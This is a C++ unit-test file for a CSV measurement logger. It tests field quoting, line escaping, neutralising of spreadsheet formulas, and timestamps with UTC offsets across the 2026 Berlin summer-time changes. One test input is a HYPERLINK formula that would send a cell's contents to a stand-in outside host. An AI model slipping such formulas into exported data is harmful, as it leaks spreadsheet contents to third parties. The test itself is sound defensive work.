#include "core/files/MeasurementLog.h"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdlib>
#include <ctime>
#include <string>

using namespace travek;

TEST(MeasurementLog, FieldsAreQuotedAndLinesEscapedSoEachRowStaysOneRow) {
    EXPECT_EQ(MeasurementLog::field("1,5"), "1,5");
    EXPECT_EQ(MeasurementLog::field("a;b"), "\"a;b\"");
    EXPECT_EQ(MeasurementLog::field("say \"x\""), "\"say \"\"x\"\"\"");
    EXPECT_EQ(MeasurementLog::escapeLine("\nA:\t1\\2\x7F"), "\\x0AA:\\x091\\\\2\\x7F");
    EXPECT_EQ(MeasurementLog::escapeLine("Gr\xF6\xDF"
                                         "e"),
              "Gr\xF6\xDF"
              "e");
    // A text that a spreadsheet would compute shows as text; a typed value stays a number.
    EXPECT_EQ(MeasurementLog::textField("=HYPERLINK(\"http://e.x/?\"&A1)"),
              "\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1)\"");
    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1"})
        EXPECT_EQ(MeasurementLog::textField(formula), "\"'" + std::string(formula) + "\"") << formula;
    EXPECT_EQ(MeasurementLog::textField("A: 1,5"), "A: 1,5");
    EXPECT_EQ(MeasurementLog::field("-1,234"), "-1,234");
}

namespace {

// The time zone for one test, as the TZ variable gives it; the one before comes back at the end.
class TimeZone {
public:
    explicit TimeZone(const std::string& zone) {
        const char* before = std::getenv("TZ");
        m_before = std::string("TZ=") + (before ? before : "");
        set("TZ=" + zone);
    }
    ~TimeZone() { set(m_before); }

private:
    void set(const std::string& setting) {
        // putenv keeps the text itself: it must live on.
        static std::string current;
        current = setting;
        ::putenv(current.data());
        ::tzset();
    }
    std::string m_before;
};

} // namespace

// Local time says its offset from UTC, so that the hour that comes twice when summer time ends is
// told apart, and rows written across either change stay in order.
TEST(MeasurementLog, TheTimeCarriesItsOffsetAcrossTheChangesOfSummerTime) {
    const TimeZone berlin("Europe/Berlin");
    auto utc = [](int m, int d, int h, int min, int ms) {
        using namespace std::chrono;
        return MeasurementLog::localTime(sys_days{year{2026} / m / d} + hours(h) + minutes(min) +
                                         milliseconds(ms));
    };
    if (utc(7, 1, 12, 0, 0) != "2026-07-01T14:00:00.000+02:00")
        GTEST_SKIP() << "this C library does not know the zone Europe/Berlin";
    // Summer time ends at 01:00 UTC on 25 October: 02:00 to 03:00 local time comes twice.
    EXPECT_EQ(utc(10, 25, 0, 30, 0), "2026-10-25T02:30:00.000+02:00");
    EXPECT_EQ(utc(10, 25, 0, 59, 59999), "2026-10-25T02:59:59.999+02:00");
    EXPECT_EQ(utc(10, 25, 1, 0, 0), "2026-10-25T02:00:00.000+01:00");
    EXPECT_EQ(utc(10, 25, 1, 30, 0), "2026-10-25T02:30:00.000+01:00");
    // It begins at 01:00 UTC on 29 March: 02:00 to 03:00 local time does not exist.
    EXPECT_EQ(utc(3, 29, 0, 59, 59999), "2026-03-29T01:59:59.999+01:00");
    EXPECT_EQ(utc(3, 29, 1, 0, 0), "2026-03-29T03:00:00.000+02:00");
}
